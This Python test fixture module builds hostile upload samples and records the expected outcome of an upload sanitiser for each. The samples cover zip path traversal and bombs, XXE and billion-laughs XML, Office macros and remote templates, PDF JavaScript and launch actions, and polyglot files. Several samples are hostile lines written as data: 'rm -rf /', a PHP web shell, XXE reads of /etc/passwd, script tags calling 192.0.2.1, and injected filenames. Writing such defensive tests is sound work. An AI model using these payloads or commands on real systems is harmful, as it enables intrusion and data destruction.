"""Files made to do harm. For each: the name it is sent under, and what may become of it.

``refused`` names the reason; ``harmless`` says that it is taken and what of it must be gone; ``kept`` that it is taken
as a download only. Nothing here works as a weapon: programs are headers without code, the virus is the industry's test
string.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache

import pikepdf
from PIL import Image

from tests.support import files

# put together here, so that no scanner takes this source for what it tests
EICAR = "".join(("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-", "TEST-FILE!$H+H*")).encode()
SCRIPT = b"<script>alert(document.domain)</script>"
PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(200)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: what it is called, its octets, what becomes of it; ``gone`` must not be in what is given out."""

    name: str
    body: bytes
    outcome: str
    gone: tuple[bytes, ...] = ()


@cache
def corpus(*groups: str) -> dict[str, Hostile]:
    """Return every hostile file by a word for it, or those of some groups (the keys of ``GROUPS``)."""
    return {word: hostile for name in groups or GROUPS for word, hostile in GROUPS[name]()}


Found = Iterator[tuple[str, Hostile]]


# ------------------------------------------------------------------------------------------------ archives


def _archive(*entries: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, content in entries:
            archive.writestr(info, content)
    return out.getvalue()


def _renamed(plain: bytes, old: bytes, new: bytes) -> bytes:
    """Return an archive with a name changed to one of the same length that no writer would write."""
    assert len(old) == len(new)
    return plain.replace(old, new)


def _link(name: str, target: bytes, mode: int) -> bytes:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return _archive((info, target))


def _locked() -> bytes:
    plain = bytearray(_archive(("secret.txt", b"words")))
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = plain.index(signature)
        plain[at + place] |= 1
    return bytes(plain)


def _overlapping() -> bytes:
    """Return an archive of which every entry of the directory points to the same octets."""
    kernel = _archive(("a", b"\x00" * 1_000_000))
    directory_at = kernel.index(b"PK\x01\x02")
    end_at = kernel.index(b"PK\x05\x06")
    entry = bytearray(kernel[directory_at:end_at])
    entries = b""
    for letter in b"abcdefghijklmnopqrstuvwxyz0123456789":
        entry[46:47] = bytes([letter])
        entries += bytes(entry)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 36, 36, len(entries), directory_at, 0)
    return kernel[:directory_at] + entries + end


def _lying() -> bytes:
    """Return an archive whose directory says that a bomb is small."""
    plain = bytearray(_archive(("a.txt", b"0" * 5_000_000)))
    for signature, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = plain.index(signature)
        plain[at + place : at + place + 4] = struct.pack("<I", 100)
    return bytes(plain)


def _nested(depth: int) -> bytes:
    body = files.WORDS.encode()
    for _ in range(depth):
        body = _archive(("inner.zip" if body.startswith(b"PK") else "note.txt", body))
    return body


def _archives() -> Found:
    bomb = _archive(("zeros.bin", b"\x00" * 50_000_000))
    yield (
        "zip: up and out",
        Hostile("a.zip", _archive(("../../../../tmp/escaped.txt", b"x")), "refused archive_paths"),
    )
    yield (
        "zip: from the root",
        Hostile("a.zip", _archive(("/etc/cron.d/escaped", b"x")), "refused archive_paths"),
    )
    yield "zip: with a drive", Hostile("a.zip", _archive(("C:/escaped.txt", b"x")), "refused archive_paths")
    backslashes = _renamed(
        _archive(("..a..a..aescaped.txt", b"x")), b"..a..a..aescaped", b"..\\..\\..\\escaped"
    )
    yield "zip: backslashes", Hostile("a.zip", backslashes, "refused archive_paths")
    nul = _renamed(_archive(("a.txtXexe", b"x")), b"a.txtXexe", b"a.txt\0exe")
    yield "zip: a NUL in a name", Hostile("a.zip", nul, "refused archive_paths")
    yield "zip: line break in a name", Hostile("a.zip", _archive(("a\nb.txt", b"x")), "refused archive_paths")
    yield (
        "zip: symbolic link",
        Hostile("a.zip", _link("link", b"/etc/passwd", 0o120777), "refused archive_links"),
    )
    yield "zip: device", Hostile("a.zip", _link("null", b"", 0o020666), "refused archive_links")
    yield "zip: bomb", Hostile("a.zip", bomb, "refused archive_size")
    yield (
        "zip: bombs nested",
        Hostile("a.zip", _archive(*((f"{n}.zip", bomb) for n in range(9))), "refused archive_size"),
    )
    yield "zip: overlapping", Hostile("a.zip", _overlapping(), "refused archive_size")
    yield "zip: lies about sizes", Hostile("a.zip", _lying(), "refused")
    yield "zip: nested deep", Hostile("a.zip", _nested(6), "refused archive_nesting")
    yield (
        "zip: many entries",
        Hostile("a.zip", _archive(*((f"{n}.txt", b"") for n in range(6_000))), "refused archive_entries"),
    )
    twice = _renamed(_archive(("a.txt", b"x"), ("b.txt", b"y")), b"b.txt", b"a.txt")
    yield "zip: a name twice", Hostile("a.zip", twice, "refused archive_doubles")
    cases = _archive(("A.txt", b"x"), ("a.TXT", b"y"))
    yield "zip: a name twice, in another case", Hostile("a.zip", cases, "refused archive_doubles")
    yield (
        "zip: file and folder",
        Hostile("a.zip", _archive(("a", b"x"), ("a/b.txt", b"y")), "refused archive_doubles"),
    )
    yield "zip: locked", Hostile("a.zip", _locked(), "refused encrypted")
    yield "zip: truncated", Hostile("a.zip", _archive(("a.txt", b"x" * 900))[:-40], "refused damaged")
    yield "zip: something behind", Hostile("a.zip", _archive(("a.txt", b"x")) + PROGRAM, "refused damaged")
    yield "zip: something before", Hostile("a.zip", PROGRAM + _archive(("a.txt", b"x")), "refused program")
    yield "zip: a program", Hostile("a.zip", _archive(("docs/setup.exe", PROGRAM)), "refused program")
    yield (
        "zip: a program under a good name",
        Hostile("a.zip", _archive(("photo.jpg", PROGRAM)), "refused program"),
    )
    yield "zip: a script", Hostile("a.zip", _archive(("run.ps1", b"Remove-Item C:/")), "refused program")
    yield "zip: empty", Hostile("a.zip", _archive(), "refused")
    spoilt = bytearray(_archive(("a.txt", b"words " * 400)))
    spoilt[60] ^= 0xFF
    yield "zip: spoilt inside", Hostile("a.zip", bytes(spoilt), "refused damaged")
    yield "gzip", Hostile("a.gz", b"\x1f\x8b\x08\x00" + bytes(60), "refused other_archive")
    yield (
        "tar",
        Hostile("a.tar", b"a".ljust(257, b"\x00") + b"ustar\x0000" + bytes(300), "refused other_archive"),
    )
    yield "7z", Hostile("a.zip", b"7z\xbc\xaf\x27\x1c" + bytes(90), "refused other_archive")


# ------------------------------------------------------------------------------------------------ office

_XXE = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;'
    "</w:t></w:r></w:p></w:body></w:document>"
)
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)
_RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{what}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)


def _changed(plain: bytes, parts: Mapping[str, bytes | str]) -> bytes:
    """Return an office file with parts replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(plain)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, body in parts.items():
            target.writestr(name, body)
    return out.getvalue()


def _content_types(plain: bytes, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(plain)) as source:
        types = source.read("[Content_Types].xml").replace(old, new)
    return _changed(plain, {"[Content_Types].xml": types})


def _office() -> Found:
    word, book = files.word(), files.workbook()
    yield "docx: XXE", Hostile("a.docx", _changed(word, {"word/document.xml": _XXE}), "refused xml_tricks")
    utf16 = _XXE.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
    yield (
        "docx: XXE in UTF-16",
        Hostile("a.docx", _changed(word, {"word/document.xml": utf16}), "refused xml_tricks"),
    )
    utf7 = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<w/>'
    yield (
        "docx: XXE in UTF-7",
        Hostile("a.docx", _changed(word, {"word/document.xml": utf7}), "refused xml_tricks"),
    )
    yield (
        "xlsx: XXE in strings",
        Hostile("a.xlsx", _changed(book, {"xl/sharedStrings.xml": _XXE}), "refused xml_tricks"),
    )
    yield (
        "xlsx: a billion laughs",
        Hostile("a.xlsx", _changed(book, {"docProps/app.xml": _LAUGHS}), "refused xml_tricks"),
    )
    macros = _content_types(
        word, b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    yield "docx: macros by its type", Hostile("a.docx", macros, "refused macros")
    vba = _changed(word, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "docx: macros by a part", Hostile("a.docx", vba, "refused macros")
    yield "docm", Hostile("a.docm", macros, "refused macros")
    yield (
        "xlsx: sheet of macros",
        Hostile("a.xlsx", _changed(book, {"xl/macrosheets/sheet1.xml": "<a/>"}), "refused macros"),
    )
    yield (
        "docx: ActiveX",
        Hostile("a.docx", _changed(word, {"word/activeX/activeX1.bin": b"x"}), "refused macros"),
    )
    ole = _changed(word, {"word/embeddings/oleObject1.bin": PROGRAM})
    yield "docx: an object", Hostile("a.docx", ole, "refused embedded")
    inner = _changed(word, {"word/embeddings/book.xlsx": _changed(book, {"xl/vbaProject.bin": b"x"})})
    yield "docx: macros in an embedded workbook", Hostile("a.docx", inner, "refused macros")
    template = _RELATION.format(what="attachedTemplate", target="http://192.0.2.1/evil.dotm")
    yield (
        "docx: template from elsewhere",
        Hostile("a.docx", _changed(word, {"word/_rels/settings.xml.rels": template}), "refused elsewhere"),
    )
    share = _RELATION.format(what="attachedTemplate", target="file:///\\\\192.0.2.1\\share\\evil.dotm")
    yield (
        "docx: template from a share",
        Hostile("a.docx", _changed(word, {"word/_rels/settings.xml.rels": share}), "refused elsewhere"),
    )
    tracker = _RELATION.format(what="image", target="http://192.0.2.1/pixel.png")
    yield (
        "docx: picture from elsewhere",
        Hostile("a.docx", _changed(word, {"word/_rels/document.xml.rels": tracker}), "refused elsewhere"),
    )
    dde = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
        "<w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"
        "<w:p><w:fldSimple w:instr=' DDE a b '/></w:p></w:body></w:document>"
    )
    yield (
        "docx: a field that runs",
        Hostile("a.docx", _changed(word, {"word/document.xml": dde}), "refused macros"),
    )
    bomb = _changed(word, {"word/media/big.xml": b"<a>" + b" " * 60_000_000 + b"</a>"})
    yield "docx: bomb", Hostile("a.docx", bomb, "refused archive_size")
    yield "docx: truncated", Hostile("a.docx", word[: len(word) // 2], "refused damaged")
    broken = _changed(word, {"word/document.xml": "<w:document><w:p></w:document>"})
    yield "docx: broken XML", Hostile("a.docx", broken, "refused damaged")
    deep = "<a>" * 200_000 + "</a>" * 200_000
    yield (
        "xlsx: XML nested deep",
        Hostile("a.xlsx", _changed(book, {"xl/sharedStrings.xml": deep}), "taken or refused"),
    )
    yield (
        "docx: up and out",
        Hostile("a.docx", _changed(word, {"../../escaped.txt": "x"}), "refused archive_paths"),
    )
    yield (
        "old Word",
        Hostile("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000), "refused old_office"),
    )
    yield (
        "locked Word",
        Hostile("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000), "refused old_office"),
    )
    yield "rich text", Hostile("a.rtf", b"{\\rtf1 {\\object\\objdata 0105}}", "refused old_office")
    odt = _changed(files.opendocument(), {"Basic/Standard/Module1.xml": "<a/>"})
    yield "odt: macros", Hostile("a.odt", odt, "refused macros")
    image = files.opendocument(words='</text:p><draw:image xlink:href="http://192.0.2.1/x.png"/><text:p>')
    yield "odt: picture from elsewhere", Hostile("a.odt", image, "refused elsewhere")
    program = files.presentation(words='x</a:t><a:hlinkClick action="ppaction://program"/><a:t>')
    yield "pptx: a click that runs", Hostile("a.pptx", program, "refused macros")
    listener = files.opendocument(words='x</text:p><script:event-listener xmlns:script="urn:s"/><text:p>')
    yield "odt: listener", Hostile("a.odt", listener, "refused macros")


# ------------------------------------------------------------------------------------------------ PDF


def _script_at_opening(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('canary')")
    )


def _script_in_names(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("canary()")))
    names = pikepdf.Array([pikepdf.String("x"), action])
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def _script_on_a_page(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("canary()")))
    pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=action)


def _launch(pdf: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("canary.exe")),
    )  # fmt: skip
    chained = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100],
        A=pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/fine"),
            Next=pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("canary.exe"))]),
        ),
    )  # fmt: skip
    pdf.pages[0].obj["/Annots"] = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link), chained]))


def _link_that_runs(pdf: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:canary()")),
    )  # fmt: skip
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([link])


def _attached(pdf: pikepdf.Pdf) -> pikepdf.AttachedFileSpec:
    return pikepdf.AttachedFileSpec(
        pdf,
        b"canary" + PROGRAM,
        filename="canary.exe",
        description="",
        mime_type="",
        creation_date="",
        mod_date="",
    )


def _files_inside(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["canary.exe"] = _attached(pdf)


def _file_on_a_page(pdf: pikepdf.Pdf) -> None:
    spec = _attached(pdf)
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec.obj
    )
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([note])


def _form_of_xml(pdf: pikepdf.Pdf) -> None:
    body = pdf.make_stream(b"<xdp:xdp xmlns:xdp='urn:x'><script>canary()</script></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=body, Fields=[])


def _film(pdf: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 20, 20],
        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.String("canary")),
    )  # fmt: skip
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([pdf.make_indirect(note)])


def _locked_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(files.pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="secret"))
    return out.getvalue()


def _many_pages() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        page = pikepdf.Page(pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, 10, 10]))
        for _ in range(2_100):
            pdf.pages.append(page)
        pdf.save(out)
    return out.getvalue()


def _strange_pages(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj["/MediaBox"] = pikepdf.Array([0, 0, 1, 14_000])


def _looping_content(pdf: pikepdf.Pdf) -> None:
    form = pdf.make_stream(
        b"/X Do /X Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9]
    )
    form["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
    pdf.pages[0].obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
    pdf.pages[0].obj["/Contents"] = pdf.make_stream(b"/X Do")


_ESCAPED = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScr#69pt/J#53(canary\\(\\))>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/A#41<</O<</S/JavaScript/JS(canary)>>>>>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
_LOOPING_TREE = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)


def _pdfs() -> Found:
    gone = (b"canary",)
    for word, change in {
        "script at opening": _script_at_opening, "script in names": _script_in_names,
        "script on a page": _script_on_a_page, "launching": _launch, "link that runs": _link_that_runs,
        "files inside": _files_inside, "file on a page": _file_on_a_page, "form of XML": _form_of_xml, "film": _film,
    }.items():  # fmt: skip
        yield f"pdf: {word}", Hostile("a.pdf", files.edited_pdf(change), "harmless", gone)
    plain = files.pdf()
    yield "pdf: script under an escaped name", Hostile("a.pdf", _ESCAPED, "harmless", gone)
    yield "pdf: a page behind it", Hostile("a.pdf", plain + b"\n<html>" + SCRIPT, "harmless", (b"<script",))
    yield (
        "pdf: an archive behind it",
        Hostile("a.pdf", plain + _archive(("x.exe", PROGRAM)), "harmless", (b"PK\x05\x06",)),
    )
    yield "pdf: a page before it", Hostile("a.pdf", b"<html>" + SCRIPT + plain, "refused or harmless")
    yield "pdf: locked", Hostile("a.pdf", _locked_pdf(), "refused encrypted")
    yield "pdf: truncated", Hostile("a.pdf", plain[: len(plain) // 3], "refused damaged")
    yield "pdf: its head only", Hostile("a.pdf", b"%PDF-1.7\n", "refused damaged")
    yield "pdf: noise", Hostile("a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40, "refused damaged")
    yield "pdf: pages in a circle", Hostile("a.pdf", _LOOPING_TREE, "refused damaged")
    yield "pdf: too many pages", Hostile("a.pdf", _many_pages(), "refused too_many_pages")
    yield "pdf: a page like a thread", Hostile("a.pdf", files.edited_pdf(_strange_pages), "harmless")
    yield "pdf: drawing in a circle", Hostile("a.pdf", files.edited_pdf(_looping_content), "taken or refused")


# ------------------------------------------------------------------------------------------------ pictures and text


def _huge_png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">2I5B", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    )


def _many_frames() -> bytes:
    first = Image.new("L", (8, 8))
    rest = [Image.new("L", (8, 8), n % 250 + 1) for n in range(2_100)]
    return files.saved(first, "TIFF", save_all=True, append_images=rest)


def _pictures() -> Found:
    png, jpeg = files.saved(files.picture(), "PNG"), files.jpeg()
    yield "png: 3.6 billion pixels", Hostile("a.png", _huge_png(), "refused too_many_pixels")
    flat = files.saved(Image.new("1", (11_000, 11_000)), "PNG")
    yield "png: 121 million pixels in few octets", Hostile("a.png", flat, "refused too_many_pixels")
    yield "png: truncated", Hostile("a.png", png[: len(png) // 2], "refused damaged")
    yield "jpeg: truncated", Hostile("a.jpg", jpeg[: len(jpeg) // 2], "refused damaged")
    yield "tiff: too many pages", Hostile("a.tif", _many_frames(), "refused too_many_pages")
    archive = _archive(("x.exe", PROGRAM))
    yield "jpeg: also an archive", Hostile("a.jpg", jpeg + archive, "harmless", (b"PK\x05\x06",))
    yield "png: also a page", Hostile("a.png", png + SCRIPT, "harmless", (b"<script",))
    yield "gif: also a script", Hostile("a.gif", b"GIF89a/*\x00\x00\x00*/=1;" + SCRIPT, "refused damaged")
    commented = files.saved(files.picture(), "JPEG", comment=SCRIPT)
    yield "jpeg: script in its comment", Hostile("a.jpg", commented, "harmless", (b"<script",))
    yield "program as picture", Hostile("a.png", PROGRAM, "refused program")
    yield "icon", Hostile("a.ico", b"\x00\x00\x01\x00\x01\x00" + bytes(60), "refused unknown_type")


def _texts() -> Found:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
    yield "svg: script", Hostile("a.svg", svg, "kept")
    xxe = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    yield "svg: XXE", Hostile("a.svg", xxe, "kept")
    yield "html: script", Hostile("a.html", b"<!doctype html>" + SCRIPT, "kept")
    yield "html as text", Hostile("a.txt", b"\n\n <HTML>" + SCRIPT, "kept")
    yield (
        "html after a comment, as text",
        Hostile("a.csv", b"<!-- x -->\n<script src=//192.0.2.1></script>", "kept"),
    )
    yield "svg as picture", Hostile("a.png", svg, "kept")
    yield "xml: a billion laughs", Hostile("a.xml", _LAUGHS.encode(), "kept")
    yield "text as PDF", Hostile("a.pdf", b"just words", "refused wrong_type")
    yield "text as picture", Hostile("a.jpg", b"just words", "refused wrong_type")
    yield "noise as text", Hostile("a.txt", bytes(range(256)) * 20, "refused")
    yield "empty", Hostile("a.txt", b"", "refused empty")
    yield "program", Hostile("a.exe", PROGRAM, "refused program")
    yield "program for Linux", Hostile("a", b"\x7fELF\x02\x01\x01" + bytes(200), "refused program")
    yield "script for a shell", Hostile("a.txt", b"#!/bin/sh\nrm -rf /\n", "refused program")
    yield "script for Windows", Hostile("a.bat", b"del C:\\*\r\n", "refused program")
    yield "script for PHP", Hostile("a.txt", b"<?php system($_GET[1]); ?>", "refused program")
    yield "shortcut", Hostile("a.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100), "refused program")
    yield (
        "address as a file",
        Hostile("a.url", b"[InternetShortcut]\r\nURL=file://192.0.2.1/x\r\n", "refused program"),
    )
    yield "two endings", Hostile("invoice.pdf.exe", files.pdf(), "harmless")
    yield "EICAR", Hostile("eicar.txt", EICAR, "kept")
    yield "EICAR in an archive", Hostile("eicar.zip", _archive(("eicar.txt", EICAR)), "kept")


def _names() -> Found:
    for name in (
        "../../../../tmp/escaped.txt", "..\\..\\escaped.txt", "/etc/passwd", "C:\\escaped.txt", "a\x00b.txt", "CON.txt",
        "nul", ".htaccess", "...", " ", "", "a\r\nSet-Cookie: x=1.txt", "\u202etxt.exe", "x" * 400 + ".txt",
        "<img src=x onerror=alert(1)>.txt", "%2e%2e%2fescaped.txt", "\ud800.txt", "名前 اسم имя.txt",
        "a" * 90 + "\u0301" * 200,
    ):  # fmt: skip
        yield f"name: {name[:30]!r}", Hostile(name, b"plain words", "taken or refused")


GROUPS: Mapping[str, Callable[[], Found]] = {
    "archives": _archives,
    "office": _office,
    "pdfs": _pdfs,
    "pictures": _pictures,
    "texts": _texts,
    "names": _names,
}
